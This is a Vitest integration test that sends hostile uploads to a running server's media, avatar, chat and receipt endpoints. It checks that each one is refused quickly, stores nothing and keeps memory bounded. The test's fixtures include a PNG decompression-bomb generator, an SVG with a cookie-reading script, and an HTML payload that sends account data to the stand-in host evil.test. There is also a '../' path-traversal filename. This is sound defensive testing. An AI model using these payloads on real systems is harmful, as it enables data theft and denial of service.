import fs from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoAdmin, demoMember, type Browser } from './helpers/browser';
import { freshPostgres, killAll, startServer, tempDir, type ServerProcess } from './helpers/server';

/**
 * Hostile uploads against a real server process (issue 15): every upload endpoint — the staff
 * media library, and the member's avatar, chat file and payment receipt — refuses a 50 MB body, a
 * PNG declaring 20,000 × 20,000 pixels (a decompression bomb), an SVG with a script, HTML named
 * .png, and a `../` name carrying HTML, each within 1 s with the error format ({ code, message:
 * a translation key every language has }), nothing written to the uploads folder, and the
 * server's memory (VmRSS) grows by less than 100 MB over all of them. A real image with a `../`
 * name is stored under a name the server made, inside the uploads folder.
 */
const MB = 1024 * 1024;
const LNGS = ['zh-HK', 'zh-CN', 'en'];

let server: ServerProcess;
let dataDir: string;
let dropDb: (() => Promise<void>) | undefined;
let admin: Browser;
let member: Browser;
let receiptPath = '';

// ---- hostile bodies --------------------------------------------------------------------------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(b: Buffer): number {
  let c = 0xffffffff;
  for (const x of b) c = CRC_TABLE[(c ^ x) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}
/** A small valid PNG whose header says 20,000 × 20,000 RGB (1.2 GB decoded); its rows are zeros. */
function pngBomb(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(20_000, 0);
  ihdr.writeUInt32BE(20_000, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit, RGB, deflate, no filter, no interlace
  const rows = deflateSync(Buffer.alloc((20_000 * 3 + 1) * 200), { level: 9 }); // the first 200 rows
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}
/** 50 MB that start like a PNG. */
const fiftyMb = () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(50 * MB - 8)]);
const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)"><script>alert(document.cookie)</script><rect width="100" height="100"/></svg>');
const html = Buffer.from('<!doctype html><html><body><script>fetch("/api/user/me").then(r=>r.text()).then(t=>location="https://evil.test/?"+t)</script></body></html>');
const escapeName = `../../../../../../../../tmp/aloha-escape-${randomBytes(4).toString('hex')}.png`;

interface Case {
  name: string;
  body: Buffer | (() => Buffer);
  fileName: string;
  type: string;
  /** Accepted codes (several endpoints tell "too large" or "not this kind" a little differently). */
  codes: string[];
}
const CASES: Case[] = [
  { name: '50 MB', body: fiftyMb, fileName: 'big.png', type: 'image/png', codes: ['UPLOAD_TOO_LARGE', 'UPLOAD_QUOTA_EXCEEDED'] },
  { name: 'PNG of 20,000 × 20,000 pixels', body: pngBomb, fileName: 'bomb.png', type: 'image/png', codes: ['UPLOAD_UNSUPPORTED', 'RECEIPT_UNSUPPORTED'] },
  { name: 'SVG with a script', body: svg, fileName: 'logo.svg', type: 'image/svg+xml', codes: ['UPLOAD_UNSUPPORTED', 'RECEIPT_UNSUPPORTED'] },
  { name: 'HTML named .png', body: html, fileName: 'photo.png', type: 'image/png', codes: ['UPLOAD_UNSUPPORTED', 'RECEIPT_UNSUPPORTED'] },
  { name: 'HTML named ../…png', body: html, fileName: escapeName, type: 'image/png', codes: ['UPLOAD_UNSUPPORTED', 'RECEIPT_UNSUPPORTED'] },
];

interface Endpoint {
  name: string;
  who: () => Browser;
  url: (fileName: string) => string;
}
const ENDPOINTS: Endpoint[] = [
  { name: 'staff media library', who: () => admin, url: (n) => `/api/manage/media?name=${encodeURIComponent(n)}` },
  { name: 'member avatar', who: () => member, url: () => '/api/user/avatar' },
  { name: 'member chat file', who: () => member, url: (n) => `/api/chat/upload?name=${encodeURIComponent(n)}` },
  { name: 'member payment receipt', who: () => member, url: (n) => `${receiptPath}&name=${encodeURIComponent(n)}` },
];

// ---- what the server holds -------------------------------------------------------------------

function rssMb(pid: number): number {
  const kb = Number(/VmRSS:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))![1]);
  return kb / 1024;
}
function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}
function hasTranslation(key: string): boolean {
  const [ns, k] = key.includes(':') ? key.split(':') : [undefined, key];
  return LNGS.every((lng) =>
    fs
      .readdirSync(path.join('locales', lng))
      .filter((f) => !ns || f === `${ns}.json`)
      .some((f) => {
        let node: unknown = JSON.parse(fs.readFileSync(path.join('locales', lng, f), 'utf8'));
        for (const part of k!.split('.')) node = node && typeof node === 'object' ? (node as Record<string, unknown>)[part] : undefined;
        return typeof node === 'string' && node.length > 0;
      }),
  );
}

beforeAll(async () => {
  dataDir = tempDir('hostile');
  let databaseUrl: string | undefined;
  if (process.env.TEST_DATABASE_URL) {
    const pg = await freshPostgres();
    databaseUrl = pg.url;
    dropDb = pg.drop;
  }
  server = startServer({ dataDir, databaseUrl });
  await server.ready();
  admin = await demoAdmin(server.base);
  member = await demoMember(server.base);

  // A deal of the member's awaiting a receipt: the demo clinic's paid workshop.
  let dealId: number | undefined;
  for (let id = 1; id <= 30 && !dealId; id++) {
    const r = await member.call('POST', `/api/events/${id}/registration`);
    const reg = r.json?.registration as { dealId?: number | null } | undefined;
    if (r.status === 200 && reg?.dealId) dealId = reg.dealId;
  }
  expect(dealId, 'a paid demo event to register for').toBeTruthy();
  // The method the clinic offers: an empty receipt is refused for what it is only then.
  for (const method of ['FPS', 'PAYME', 'TRANSFER']) {
    const url = `/api/user/deals/${dealId}/receipt?method=${method}&confirmed=true`;
    const r = await member.fetch(url, { method: 'POST', body: Buffer.alloc(0), headers: { 'content-type': 'application/octet-stream' } });
    const body = (await r.json()) as { code: string };
    if (body.code === 'RECEIPT_UNSUPPORTED') {
      receiptPath = url;
      break;
    }
  }
  expect(receiptPath, 'a pay method the demo clinic offers').not.toBe('');
}, 180_000);

afterAll(async () => {
  await killAll();
  await dropDb?.();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

describe('hostile uploads against a running server', () => {
  it('are each refused within 1 s with a translated error code; nothing is stored; memory grows < 100 MB', async () => {
    const uploads = path.join(dataDir, 'uploads');
    const before = filesUnder(uploads);
    const outsideBefore = filesUnder(dataDir).filter((f) => !f.startsWith('uploads' + path.sep) && !f.startsWith('pglite' + path.sep));
    // Warm each endpoint's code path once (sharp, the routes) so the baseline is a running server's.
    for (const e of ENDPOINTS) await e.who().fetch(e.url('warm.png'), { method: 'POST', body: html, headers: { 'content-type': 'image/png' } });
    const rss0 = rssMb(server.child.pid!);
    let peak = rss0;
    const timings: string[] = [];
    for (const c of CASES) {
      const body = typeof c.body === 'function' ? c.body() : c.body;
      for (const e of ENDPOINTS) {
        const t0 = performance.now();
        const res = await e.who().fetch(e.url(c.fileName), { method: 'POST', body, headers: { 'content-type': c.type } });
        const json = (await res.json().catch(() => ({}))) as { code?: string; message?: string };
        const ms = performance.now() - t0;
        const rss = rssMb(server.child.pid!);
        timings.push(`${c.name} → ${e.name}: ${res.status} ${json.code} in ${Math.round(ms)} ms, server ${rss.toFixed(0)} MB`);
        expect(res.status, `${c.name} → ${e.name}`).toBeGreaterThanOrEqual(400);
        expect(res.status, `${c.name} → ${e.name}`).toBeLessThan(500);
        expect(c.codes, `${c.name} → ${e.name}: ${JSON.stringify(json)}`).toContain(json.code);
        expect(hasTranslation(json.message!), `${json.message} in ${LNGS.join(', ')}`).toBe(true);
        expect(ms, `${c.name} → ${e.name}`).toBeLessThan(1_000);
        expect(filesUnder(uploads), `${c.name} → ${e.name} stored nothing`).toEqual(before);
        peak = Math.max(peak, rss);
      }
    }
    console.log(timings.join('\n'));
    console.log(`VmRSS ${rss0.toFixed(0)} MB before, ${peak.toFixed(0)} MB at most after a refusal, ${rssMb(server.child.pid!).toFixed(0)} MB at the end`);
    expect(peak - rss0).toBeLessThan(100);
    // Nothing appeared outside the uploads folder either: not in DATA_DIR, not where `../` points.
    expect(filesUnder(dataDir).filter((f) => !f.startsWith('uploads' + path.sep) && !f.startsWith('pglite' + path.sep))).toEqual(outsideBefore);
    for (const from of [uploads, path.join(uploads, 'media'), process.cwd(), '/']) expect(fs.existsSync(path.resolve(from, escapeName))).toBe(false);
    // …and the server still serves.
    expect((await fetch(`${server.base}/en`)).status).toBe(200);
  });

  it('a 50 MB body streamed without a length is cut off while it arrives (no buffering of the whole)', async () => {
    const rss0 = rssMb(server.child.pid!);
    const total = 50 * MB;
    let sent = 0;
    const piece = Buffer.alloc(MB);
    const stream = new ReadableStream<Uint8Array>({
      pull(ctrl) {
        if (sent >= total) return ctrl.close();
        sent += piece.length;
        ctrl.enqueue(piece);
      },
    });
    const t0 = performance.now();
    let status = 0;
    let code: string | undefined;
    try {
      const res = await admin.fetch('/api/manage/media?name=stream.png', { method: 'POST', body: stream, headers: { 'content-type': 'image/png' }, duplex: 'half' });
      status = res.status;
      code = ((await res.json().catch(() => ({}))) as { code?: string }).code;
    } catch {
      status = -1; // the server closed the connection on a body it refused: also a refusal
    }
    const ms = performance.now() - t0;
    console.log(`streamed 50 MB: ${status} ${code} after ${Math.round(sent / MB)} MB sent, in ${Math.round(ms)} ms`);
    if (status !== -1) {
      expect(status).toBe(413);
      expect(code).toBe('UPLOAD_TOO_LARGE');
    }
    expect(ms).toBeLessThan(1_000);
    expect(rssMb(server.child.pid!) - rss0).toBeLessThan(100);
    expect(filesUnder(path.join(dataDir, 'uploads', 'media'))).toEqual([]);
  });

  it('a real image named with ../ is stored under a name the server made, inside the uploads folder; the shown name keeps no folders', async () => {
    const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 10, g: 120, b: 200 } } }).png().toBuffer();
    const uploads = path.join(dataDir, 'uploads');
    const res = await admin.fetch(`/api/manage/media?name=${encodeURIComponent(escapeName)}`, { method: 'POST', body: png, headers: { 'content-type': 'image/png' } });
    expect(res.status).toBe(200);
    const { image } = (await res.json()) as { image: { path: string; fileName: string } };
    expect(image.path).toMatch(/^\/uploads\/media\/[A-Za-z0-9_-]+\.png$/);
    expect(image.fileName).toBe(path.basename(escapeName));
    expect(filesUnder(uploads).every((f) => !f.includes('..') && !f.includes('aloha-escape'))).toBe(true);

    const chat = await member.fetch(`/api/chat/upload?name=${encodeURIComponent(escapeName)}`, { method: 'POST', body: png, headers: { 'content-type': 'image/png' } });
    expect(chat.status).toBe(200);
    const file = (await chat.json()) as { url: string; name: string };
    expect(file.url).toMatch(/^\/uploads\/chat[a-z-]*\/[A-Za-z0-9_-]+\.png$/);
    expect(file.name).toBe(path.basename(escapeName));
    for (const from of [uploads, path.join(uploads, 'media'), process.cwd(), '/']) expect(fs.existsSync(path.resolve(from, escapeName))).toBe(false);
  });
});
